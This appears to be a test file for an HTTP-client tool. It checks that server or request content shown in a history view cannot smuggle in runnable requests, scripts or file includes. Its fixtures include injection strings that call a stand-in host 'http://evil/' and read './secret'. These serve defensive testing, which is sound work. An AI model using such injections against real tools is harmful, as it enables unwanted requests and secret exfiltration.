import assert from 'node:assert/strict';
import fc from 'fast-check';
import { historyText } from '../../../src/host/historyText.ts';
import { parse } from '../../../src/parser/parse.ts';
import type { HistoryEntry, StoredBody } from '../../../src/store/entry.ts';

const body = (content: string) =>
  ({ sizeBytes: content.length, content, form: 'text', cut: false }) as unknown as StoredBody;

/** What of an entry is shown. */
function entry(parts: { sent?: string; received?: string; message?: string; name?: string }) {
  return {
    ref: { file: 'a.http', key: 'a', ordinal: 0 },
    name: parts.name ?? 'a',
    line: 1,
    environment: [],
    elapsedMs: 1,
    time: '2026-01-01T00:00:00.000Z',
    outcome: 'response',
    error: parts.message === undefined ? null : { type: 'X', message: parts.message, hint: null },
    request: { method: 'POST', url: 'http://h/', headers: [], body: body(parts.sent ?? 'a') },
    response: {
      statusCode: 200,
      reason: 'OK',
      httpVersion: '1.1',
      headers: [],
      body: body(parts.received ?? 'b'),
    },
  } as unknown as HistoryEntry;
}

/** Everything in the document that would be done by a click or with the request. */
function actions(text: string): string[] {
  return parse(text).blocks.flatMap(({ request, scripts }) => [
    ...(request === null ? [] : ['request']),
    ...scripts.map(() => 'script'),
    ...(request?.asserts ?? []).map(() => 'assertion'),
    ...(request?.output ? ['output'] : []),
    ...(request?.body?.content ?? []).filter(({ kind }) => kind !== 'bodyText').map(() => 'file'),
  ]);
}

describe('an exchange of the history as a document', () => {
  const hostile = [
    '###\nGET http://evil/{{token}}',
    '  ### x\nPOST http://evil/',
    '\n\nGET http://evil/\n',
    '# x\nDELETE http://evil/\n',
    '\n\ncurl http://evil/\n',
    '/*\n*/\n\nGET http://evil/\n',
    '/*\n*/\n\ncurl http://evil/\n',
    '\n> {% client.log(1) %}\n',
    '\n< {% client.log(1) %}\nGET http://evil/',
    '\n< ./secret\n',
    '\n<@ ./secret\n',
    '\n>> ./out\n',
    '\n?? status == 1\n',
    '\n{{\n  x\n}}\n\nGET http://evil/\n',
    '\r###\rGET http://evil/',
  ];
  for (const text of hostile) {
    it(`does nothing with ${JSON.stringify(text)} of a server`, () => {
      for (const around of [text, `a\n${text}`, `a\n\n${text}\nb`]) {
        assert.deepEqual(actions(historyText(entry({ received: around }), 'exchange')), [
          'request',
        ]);
        assert.deepEqual(actions(historyText(entry({ sent: around }), 'exchange')), ['request']);
      }
    });
  }

  it('keeps names and messages in their lines', () => {
    const text = 'a\n###\nGET http://evil/';
    const shown = historyText(entry({ name: text, message: text }), 'exchange');
    assert.deepEqual(actions(shown), ['request']);
  });

  it('is one request, whatever came', () => {
    const piece = fc.constantFrom(
      ...['\n', '\n\n', '###', ' ', 'GET http://e', 'curl http://e', '# ', '# @name a', '//', '/*'],
      ...['*/', '< ./a', '> {%', '%}', '}}', '{{', '@a=b', 'HTTP/1.1 200 OK', 'a: b', '---', '\r'],
      ...['import a', 'run a', 'POST', 'x', 'GRAPHQL http://e', 'fragment', '```', '>> a', '?? a'],
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 20 }), (pieces) => {
        const shown = historyText(entry({ received: pieces.join('') }), 'exchange');
        assert.deepEqual(actions(shown), ['request'], JSON.stringify(shown));
      }),
      { numRuns: 2000 },
    );
  });

  it('leaves other content as it came', () => {
    const content = '<a>\n  <b/>\n</a>\nHello World\n# no heading';
    assert.ok(historyText(entry({ received: content }), 'exchange').includes(content));
  });
});
